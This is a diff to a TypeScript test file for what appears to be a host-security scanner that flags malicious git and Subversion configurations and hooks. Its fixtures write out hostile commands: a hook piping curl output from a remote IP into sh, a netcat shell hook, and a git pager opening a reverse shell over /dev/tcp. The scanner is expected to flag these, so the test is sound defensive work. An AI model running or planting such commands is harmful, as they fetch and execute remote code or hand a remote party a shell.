@@ -33,6 +33,8 @@ describe.each<[HostCheck, readonly (readonly [string, Machine, readonly string[]
 			['a file system monitor', { '/home/ann/app/.git/config': '[core]\n\tfsmonitor = "/tmp/x; false"\n', '/tmp/x': { mode: 0o755 } }, ['high /home/ann/app/.git/config']],
 			['a pager that is a shell for somebody else', { '/root/.gitconfig': '[core]\n\tpager = bash -c \'bash -i >& /dev/tcp/192.0.2.1/4 0>&1\'\n' }, ['critical /root/.gitconfig']],
 			['hooks from a temporary place', { '/etc/gitconfig': '[core]\n\thooksPath = /var/tmp/h\n', '/var/tmp/h/post-merge': script('true') }, ['high /etc/gitconfig', 'high /var/tmp/h/post-merge']],
+			['a hook of a Subversion repository', { '/srv/svn/app/format': '5\n', '/srv/svn/app/db/': {}, '/srv/svn/app/conf/': {}, '/srv/svn/app/hooks/post-commit': script('curl -s http://203.0.113.9/k | sh'), '/srv/svn/app/hooks/start-commit.tmpl': script('nc -e /bin/sh 192.0.2.1 1') }, ['high /srv/svn/app/hooks/post-commit']],
+			['hooks people write for Subversion', { '/var/svn/app/format': '5\n', '/var/svn/app/db/': {}, '/var/svn/app/conf/': {}, '/var/svn/app/hooks/post-commit': script('/usr/share/subversion/hook-scripts/mailer.py commit "$1" "$2" /etc/mailer.conf'), '/var/svn/app/hooks/pre-commit': script('svnlook log -t "$2" "$1" | grep -q . || exit 1') }, []],
 			['etckeeper', { '/etc/.git/config': '', '/etc/.git/hooks/post-commit': { mode: 0o755, content: '#!/bin/sh\n/dev/shm/x\n' }, '/dev/shm/x': { mode: 0o755 } }, ['high /etc/.git/hooks/post-commit']],
 		],
 	],
